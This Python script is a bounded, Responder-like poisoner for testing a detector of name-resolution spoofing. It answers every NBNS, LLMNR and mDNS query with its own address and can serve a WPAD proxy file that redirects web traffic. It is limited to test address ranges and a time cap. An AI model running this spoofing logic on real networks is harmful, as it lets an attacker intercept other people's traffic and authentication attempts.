#!/usr/bin/python3
"""A Responder-like name poisoner for the `nbdgm watch` namespace tests (issue 14 §4).

Answers EVERY NBNS broadcast name query (UDP 137, RFC 1002 §4.2.12/§4.2.13), every
LLMNR query (224.0.0.252:5355, RFC 4795) and every mDNS query (224.0.0.251:5353,
RFC 6762) with its own address, like Responder (MITRE ATT&CK T1557.001). Optionally
accepts TCP connections on 445 and serves /wpad.dat over HTTP on 80, so that a
verification step finds a live "server".

Test use only: run it inside a network namespace of 198.51.100.0/24 that the test
created. It is bounded: it exits after --seconds or --max-answers answers, whichever
comes first. Plain sockets; no scapy needed. One line per answer on stdout.
"""

import argparse
import select
import socket
import struct
import sys
import threading
import time

LLMNR_GROUP = "224.0.0.252"
MDNS_GROUP = "224.0.0.251"


def log(*a):
    print(*a, flush=True)


def skip_name(buf, off):
    """End offset of a DNS/NBNS name at `off` (labels or a pointer); None if malformed."""
    for _ in range(128):
        if off >= len(buf):
            return None
        n = buf[off]
        if n == 0:
            return off + 1
        if n & 0xC0 == 0xC0:
            return off + 2
        off += 1 + n
    return None


def nb_decode(label):
    """First-level decoding (RFC 1001 §14.1) of a 32-byte label, for the log line."""
    if len(label) != 32 or any(not 65 <= c <= 80 for c in label):
        return "?"
    raw = bytes(((label[i] - 65) << 4) | (label[i + 1] - 65) for i in range(0, 32, 2))
    return "%s<%02x>" % (raw[:15].decode("latin-1").rstrip(), raw[15])


def nbns_answer(q, my_ip):
    """Positive name query response for a NAME QUERY REQUEST `q`, or None."""
    if len(q) < 12:
        return None, None
    tid, flags, qd = struct.unpack(">HHH", q[:6])
    if flags & 0x8000 or (flags >> 11) & 0xF != 0 or qd != 1:
        return None, None  # a response, another opcode, or no single question
    end = skip_name(q, 12)
    if end is None or end + 4 > len(q):
        return None, None
    qtype, _ = struct.unpack(">HH", q[end:end + 4])
    if qtype != 0x0020:  # NB only (not NBSTAT)
        return None, None
    name = q[12:end]
    ans = struct.pack(">HHHHHH", tid, 0x8500, 0, 1, 0, 0) + name
    ans += struct.pack(">HHIH", 0x0020, 0x0001, 165, 6) + struct.pack(">H", 0) + socket.inet_aton(my_ip)
    return ans, nb_decode(q[13:13 + 32]) if q[12] == 32 else "?"


def dns_qname(q, off):
    labels = []
    for _ in range(64):
        if off >= len(q):
            return None
        n = q[off]
        if n == 0:
            return ".".join(labels)
        if n & 0xC0:
            return None
        labels.append(q[off + 1:off + 1 + n].decode("latin-1"))
        off += 1 + n
    return None


def dns_answer(q, my_ip, mdns):
    """An answer (A record, our address) to a DNS-format query `q` (LLMNR or mDNS)."""
    if len(q) < 12:
        return None, None, False
    tid, flags, qd = struct.unpack(">HHH", q[:6])
    if flags & 0x8000 or qd < 1:
        return None, None, False
    end = skip_name(q, 12)
    if end is None or end + 4 > len(q):
        return None, None, False
    qtype, qclass = struct.unpack(">HH", q[end:end + 4])
    if qtype not in (1, 255):  # A or ANY
        return None, None, False
    name = q[12:end]
    text = dns_qname(q, 12) or "?"
    if mdns:
        ans = struct.pack(">HHHHHH", tid, 0x8400, 0, 1, 0, 0) + name
        ans += struct.pack(">HHIH", 1, 0x8001, 120, 4) + socket.inet_aton(my_ip)
        return ans, text, bool(qclass & 0x8000)
    ans = struct.pack(">HHHHHH", tid, 0x8000, 1, 1, 0, 0) + q[12:end + 4]
    ans += struct.pack(">HHHIH", 0xC00C, 1, 1, 30, 4) + socket.inet_aton(my_ip)
    return ans, text, True


def udp_socket(port, my_ip, group=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind(("0.0.0.0", port))
    if group:
        mreq = socket.inet_aton(group) + socket.inet_aton(my_ip)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(my_ip))
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255 if port == 5353 else 1)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    return s


def tcp_server(port, my_ip, deadline, handler):
    """Accept connections on `port` until `deadline` (one at a time, each bounded)."""
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((my_ip, port))
    srv.listen(8)
    srv.settimeout(0.5)

    def loop():
        while time.monotonic() < deadline:
            try:
                c, peer = srv.accept()
            except socket.timeout:
                continue
            except OSError:
                break
            c.settimeout(2.0)
            try:
                handler(c, peer)
            except OSError:
                pass
            finally:
                c.close()
        srv.close()

    t = threading.Thread(target=loop, daemon=True)
    t.start()
    return t


PAC = b'function FindProxyForURL(url, host) { return "PROXY 198.51.100.66:3128; DIRECT"; }\n'


def http_handler(c, peer):
    req = c.recv(4096)
    path = req.split(b" ")[1] if req.count(b" ") >= 2 else b"/"
    log("http %s %s" % (peer[0], path.decode("latin-1")))
    if path.startswith(b"/wpad.dat"):
        c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/x-ns-proxy-autoconfig\r\n"
                  b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(PAC) + PAC)
    else:
        c.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


def smb_handler(c, peer):
    log("tcp445 %s" % peer[0])
    try:
        c.recv(1024)
    except socket.timeout:
        pass


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--ip", required=True, help="our address (answered for every name)")
    ap.add_argument("--seconds", type=float, default=60.0, help="run time bound (max 600)")
    ap.add_argument("--max-answers", type=int, default=1000, help="answer count bound")
    ap.add_argument("--no-nbns", action="store_true")
    ap.add_argument("--no-llmnr", action="store_true")
    ap.add_argument("--no-mdns", action="store_true")
    ap.add_argument("--tcp445", action="store_true", help="accept TCP connections on 445")
    ap.add_argument("--http", action="store_true", help="serve /wpad.dat on TCP 80")
    a = ap.parse_args()
    if not a.ip.startswith(("198.51.100.", "203.0.113.")):
        sys.exit("poisoner: test addresses only (198.51.100.0/24, 203.0.113.0/24)")
    seconds = min(max(a.seconds, 0.0), 600.0)
    deadline = time.monotonic() + seconds

    socks = {}
    if not a.no_nbns:
        socks[udp_socket(137, a.ip)] = "nbns"
    if not a.no_llmnr:
        socks[udp_socket(5355, a.ip, LLMNR_GROUP)] = "llmnr"
    if not a.no_mdns:
        socks[udp_socket(5353, a.ip, MDNS_GROUP)] = "mdns"
    if a.tcp445:
        tcp_server(445, a.ip, deadline, smb_handler)
    if a.http:
        tcp_server(80, a.ip, deadline, http_handler)
    log("ready %s nbns=%s llmnr=%s mdns=%s" % (a.ip, not a.no_nbns, not a.no_llmnr, not a.no_mdns))

    answers = 0
    while answers < a.max_answers:
        left = deadline - time.monotonic()
        if left <= 0:
            break
        ready, _, _ = select.select(list(socks), [], [], min(left, 0.5))
        for s in ready:
            try:
                q, peer = s.recvfrom(2048)
            except OSError:
                continue
            if peer[0] == a.ip:
                continue
            kind = socks[s]
            if kind == "nbns":
                ans, name = nbns_answer(q, a.ip)
                to = peer
            else:
                ans, name, unicast = dns_answer(q, a.ip, kind == "mdns")
                to = peer if unicast else (MDNS_GROUP, 5353)
            if ans is None:
                continue
            try:
                s.sendto(ans, to)
            except OSError as e:
                log("send %s failed: %s" % (kind, e))
                continue
            answers += 1
            log("answered %s %s from %s:%d to %s:%d" % (kind, name, peer[0], peer[1], to[0], to[1]))
    log("done answers=%d" % answers)


if __name__ == "__main__":
    main()
